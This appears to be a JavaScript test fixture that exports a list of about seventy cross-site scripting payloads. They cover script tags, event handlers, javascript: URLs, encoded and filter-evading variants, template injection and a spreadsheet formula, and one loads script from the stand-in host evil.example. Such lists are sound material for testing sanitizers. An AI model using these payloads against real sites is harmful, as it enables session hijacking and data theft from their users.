// Known ways to smuggle script into a page, as text of an article, as a saved page and as a file name.
const call = "window.pwned=1";
export const HOSTILE = [
  `<script>${call}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=${call}>`, `<img src=x onerror="${call}"//`,
  `<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributename=x>`, `<math><mi//xlink:href="data:x,<script>${call}</script>">`, `<body onload=${call}>`, `<body onpageshow=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<iframe onload=${call}></iframe>`,
  `<object data="javascript:${call}"></object>`, `<embed src="javascript:${call}">`, `<a href="javascript:${call}">x</a>`, `<a href="JaVaScRiPt:${call}">x</a>`,
  `<a href="java&#10;script:${call}">x</a>`, `<a href="&#106;avascript:${call}">x</a>`, `<form action="javascript:${call}"><button>x</button></form>`,
  `<button formaction="javascript:${call}">x</button>`, `<input autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`, `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`, `<video><source onerror=${call}>`, `<video src=x onerror=${call}>`, `<audio src=x onerror=${call}>`, `<marquee onstart=${call}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`, `<link rel=stylesheet href="javascript:${call}">`, `<base href="javascript:${call}//">`,
  `<style>@import 'javascript:${call}';</style>`, `<style onload=${call}></style>`, `<div style="background:url(javascript:${call})">`, `<div onmouseover="${call}">x</div>`,
  `<div onpointerenter="${call}">x</div>`, `<x onclick=${call}>x</x>`, `<x contenteditable onblur=${call}>`, `<template><script>${call}</script></template>`,
  `"><script>${call}</script>`, `'><img src=x onerror=${call}>`, `</textarea><script>${call}</script>`, `</title><script>${call}</script>`, `</style><script>${call}</script>`,
  `--><script>${call}</script>`, `]]><script>${call}</script>`, `<!--><script>${call}</script>-->`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<scr<script>ipt>${call}</scr</script>ipt>`, `<<script>${call}//<</script>`, `<script\u0000>${call}</script>`, `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;img src=x onerror=${call}&#62;`, `\\u003cscript\\u003e${call}\\u003c/script\\u003e`, `\${${call}}`, `{{constructor.constructor('${call}')()}}`,
  `[x](javascript:${call})`, `![x](x" onerror="${call})`, `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
  `<p id="status">x</p><img name="onrecord" id="card">`, `__proto__`, `constructor`, `<img src="data:image/svg+xml,<svg onload=${call}>">`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `=HYPERLINK("javascript:${call}","x")`, `＜script＞${call}＜/script＞`, `<ScRiPt>${call}</sCrIpT>`, `<isindex type=image src=1 onerror=${call}>`,
];
